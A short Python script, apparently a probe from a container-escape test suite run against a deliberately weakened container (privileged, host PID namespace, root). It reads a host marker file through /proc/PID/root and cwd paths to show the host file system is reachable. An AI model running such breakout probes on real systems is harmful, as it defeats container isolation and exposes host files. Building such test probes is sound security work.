"""/proc/PID/root of a process outside is a door to the host's file system."""
# weakened: privileged --pid=host --user 0

import glob

from inside import HOST, escaped

for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd/../../../../.."):
    try:
        with open(root + HOST["file"]) as file:
            if HOST["word"] in file.read():
                escaped(f"{root} is the host's")
    except OSError:
        continue
